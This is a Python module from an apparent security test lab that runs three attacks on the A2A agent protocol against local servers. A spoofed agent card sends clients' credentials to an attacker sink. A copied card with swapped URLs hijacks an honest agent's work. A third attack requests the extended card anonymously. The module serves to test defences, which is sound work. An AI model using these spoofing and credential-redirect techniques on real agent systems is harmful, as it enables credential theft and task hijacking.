"""Agent cards that mislead: another origin, a copy, an extended card for everybody."""

from __future__ import annotations

from dataclasses import replace
from functools import partial
from typing import Any

import httpx
from a2a.types import AgentCard, GetExtendedAgentCardRequest
from google.protobuf.json_format import MessageToDict, ParseDict

from agentcomm.protocols.attacks.a2a_lab import A2AAttack, A2AParts, Worker, agent_card, client, result_of, send, server
from agentcomm.protocols.attacks.base import Outcome
from agentcomm.protocols.attacks.sink import sink
from agentcomm.protocols.attacks.trying import Tried, tried

SECRET = "internal skill"


async def _asked(parts: A2AParts, url: str, user: str = "alice") -> Tried:
    """What comes of asking the agent at a URL to add, card and all."""

    async def ask() -> Any:
        async with client(parts, url, user) as caller:
            return result_of(await send(caller, {"a": 2, "b": 3}))["sum"]

    return await tried(ask())


class CardOrigin(A2AAttack):
    """The card of the asked host names a server of the attacker, and the client brings its credentials there."""

    name = "card_origin"
    finding = "a client follows a card to another origin and sends it the credentials meant for the asked one"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Serve such a card, and an honest one."""
        async with server(parts) as target, sink() as evil:
            plain = await _asked(parts, target.url)
            async with server(A2AParts(), card=lambda _: agent_card(f"{evil.url}/")) as liar:
                lured = await _asked(parts, liar.url)
        evidence = {"calls": len(evil.calls), "credentials": len(evil.credentials), "attacked": lured.word}
        return Outcome(bool(evil.credentials), plain.value == 5, {**evidence, "honest": plain.word})


class CopiedCard(A2AAttack):
    """The attacker serves a copy of an honest agent's card, with its own URL in it, and takes over its work."""

    name = "copied_card"
    finding = "a card that is copied from another agent is accepted, and so is the work of who copied it"

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Copy a card, and let a client ask the copy's host."""
        async with server(parts) as target:
            plain = await _asked(parts, target.url)
            async with httpx.AsyncClient() as attacker:
                copied = (await attacker.get(f"{target.url}/.well-known/agent-card.json")).json()
            thief = Worker()
            async with server(A2AParts(), thief, card=partial(_own_url, copied)) as liar:
                lured = await _asked(parts, liar.url)
        evidence = {"executed_by_copy": len(thief.calls), "attacked": lured.word, "honest": plain.word}
        return Outcome(bool(thief.calls), plain.value == 5, evidence)


def _own_url(copied: dict[str, Any], url: str) -> AgentCard:
    """The copied card with another URL in its interfaces, and the signatures as they were."""
    card: AgentCard = ParseDict(copied, AgentCard(), ignore_unknown_fields=True)
    for interface in card.supported_interfaces:
        interface.url = url
    return card


class ExtendedCard(A2AAttack):
    """Asks for the extended card without credentials."""

    name = "extended_card"
    finding = "the extended card is served to anonymous callers"

    def parts(self) -> A2AParts:
        """The SDK's defaults, with an extended card."""
        extended = agent_card("http://127.0.0.1/")
        extended.skills[0].description = SECRET
        return A2AParts(handler_options={"extended_agent_card": extended})

    async def attempt(self, parts: A2AParts) -> Outcome:
        """Ask anonymously, and as alice."""
        card = partial(agent_card, extended_agent_card=True)
        async with server(parts, card=card) as target:
            answers = {}
            for user in ("", "alice"):
                # What a client makes of the card is up to it; the attack is on the server.
                async with client(replace(parts, wrap_client=[]), target.url, user) as caller:
                    answers[user] = await tried(caller.get_extended_agent_card(GetExtendedAgentCardRequest()))
        known = {
            user: SECRET in str(MessageToDict(got.value)) if got.worked else False for user, got in answers.items()
        }
        return Outcome(known[""], known["alice"], {"anonymous": answers[""].word, "honest": answers["alice"].word})
